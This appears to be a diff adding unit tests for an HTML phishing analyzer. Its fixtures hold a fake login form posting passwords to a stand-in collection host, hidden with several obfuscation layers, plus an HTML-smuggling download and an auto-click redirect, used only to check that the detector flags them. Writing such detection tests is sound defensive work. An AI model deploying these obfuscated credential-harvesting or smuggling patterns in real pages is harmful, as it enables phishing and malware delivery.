@@ -1,0 +1,86 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { analyzeHtml, readStringLiteral } from './index.js';
+
+const LIMITS = { maxPayloadBytes: 1 << 20 };
+const LOGIN = '<!DOCTYPE html><html><body><form action="https://collect.example.net/p.php" method="post"><input name="email"><input type="password" name="pw"></form></body></html>';
+const percent = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
+const base64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
+const hex = (s: string): string => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
+
+test('a page written by script from an encoded string is read: its password form is the file\'s', () => {
+  const cases: [string, string][] = [
+    ['document.write(unescape)', `<script>document.write(unescape('${percent(LOGIN)}'));</script>`],
+    ['document.write(decodeURIComponent), double quotes', `<script>document.write(decodeURIComponent("${percent(LOGIN)}"))</script>`],
+    ['atob', `<script>document.write(atob("${base64(LOGIN)}"))</script>`],
+    ['window.atob in a variable, written later', `<script>var p = window.atob('${base64(LOGIN)}'); document.body.innerHTML = p;</script>`],
+    ['unescape(atob(…)): layers peeled', `<script>document.write(unescape(atob('${base64(percent(LOGIN))}')))</script>`],
+    ['hex escapes in a written literal', `<script>document.write("${hex(LOGIN)}")</script>`],
+    ['pieces joined with +', `<script>document.write(unescape('${percent(LOGIN.slice(0, 60))}' +\n '${percent(LOGIN.slice(60))}'))</script>`],
+    ['a form split over two writes', `<script>document.write('${hex(LOGIN.slice(0, 90))}');\ndocument.write("${hex(LOGIN.slice(90))}");</script>`],
+    ['an unclosed literal (a cut file)', `<script>document.write(unescape('${percent(LOGIN)}`],
+  ];
+  for (const [name, html] of cases) {
+    const facts = analyzeHtml(html, LIMITS);
+    assert.deepEqual(facts.credentialForms, ['https://collect.example.net/p.php'], name);
+    assert.ok(facts.urls.includes('https://collect.example.net/p.php'), name);
+    assert.ok(facts.obfuscation.length > 0, name);
+  }
+});
+
+test('only markup counts as a written page: plain strings, binaries and pages without scripts are not read', () => {
+  const plain = analyzeHtml(`<script>document.write(unescape('${percent('Hello, your document is ready')}'))</script>`, LIMITS);
+  assert.deepEqual(plain.credentialForms, []);
+  assert.deepEqual(plain.obfuscation, ['document.write of decoded text']);
+  // A smuggled binary decoded by atob is the smuggling finding's, not a page.
+  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(600, 7), Buffer.from('<form><input type=password>')]);
+  const smuggled = analyzeHtml(`<script>var b = atob("${zip.toString('base64')}"); var blob = new Blob([b]); var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'x.zip'; a.click();</script>`, LIMITS);
+  assert.equal(smuggled.smuggling, true);
+  assert.deepEqual(smuggled.credentialForms, []);
+  // Without a script nothing writes anything: an encoded string in the text is only text.
+  const noScript = analyzeHtml(`<p>unescape('${percent(LOGIN)}')</p>`, LIMITS);
+  assert.deepEqual(noScript.credentialForms, []);
+  assert.deepEqual(noScript.obfuscation, []);
+  // A plain write of markup is not a page written out of sight (an old "print this page" button).
+  const plainWrite = analyzeHtml(`<script>document.write('<input type="button" value="Print Page" onclick="printit()">');</script>`, LIMITS);
+  assert.deepEqual(plainWrite.obfuscation, []);
+});
+
+test('written pages are followed two layers deep, not further', () => {
+  const wrap = (page: string): string => `<script>document.write(unescape('${percent(page)}'))</script>`;
+  assert.deepEqual(analyzeHtml(wrap(wrap(LOGIN)), LIMITS).credentialForms, ['https://collect.example.net/p.php']);
+  assert.deepEqual(analyzeHtml(wrap(wrap(wrap(LOGIN))), LIMITS).credentialForms, []);
+});
+
+test('a page that clicks its own link as it opens redirects there', () => {
+  const facts = analyzeHtml('<html><body onload="document.getElementById(\'1\').click();"><a id="1" href="https://landing.example.org/index.html#1234">Open Site</a></body></html>', LIMITS);
+  assert.deepEqual(facts.redirects, ['https://landing.example.org/index.html#1234']);
+  // A link nobody clicks is not a redirect.
+  assert.deepEqual(analyzeHtml('<html><body><a href="https://landing.example.org/">Open</a></body></html>', LIMITS).redirects, []);
+});
+
+test('readStringLiteral reads JavaScript escapes and stops at its own quote', () => {
+  const cases: [string, string, number][] = [
+    [`'a\\'b' + x`, `a'b`, 6],
+    [`"\\x3cp\\x3e"`, '<p>', 11],
+    [`'\\u003c\\u{1F600}'`, '<\u{1F600}', 17],
+    ['`a"b`', 'a"b', 5],
+    [`'\\n\\t\\\\'`, '\n\t\\', 8],
+    [`'\\u{110000}'`, 'u{110000}', 12],
+    [`'line\\\ncontinued'`, 'linecontinued', 17],
+    [`'open`, 'open', 5],
+  ];
+  for (const [src, value, end] of cases) {
+    const read = readStringLiteral(src, 0);
+    assert.deepEqual({ value: read.value, end: read.end }, { value, end }, src);
+    assert.equal(read.escaped, /\\[^'"\\]/.test(src.slice(0, end)), src);
+  }
+});
+
+test('hostile input: many unclosed escapes and calls stay linear and bounded', () => {
+  const many = `<script>${"document.write('\\u{".repeat(20_000)}</script>`;
+  const facts = analyzeHtml(many, LIMITS);
+  assert.deepEqual(facts.credentialForms, []);
+  const calls = `<script>${"unescape('%3Cp%3E') + ".repeat(50_000)}</script>`;
+  assert.deepEqual(analyzeHtml(calls, LIMITS).credentialForms, []);
+});
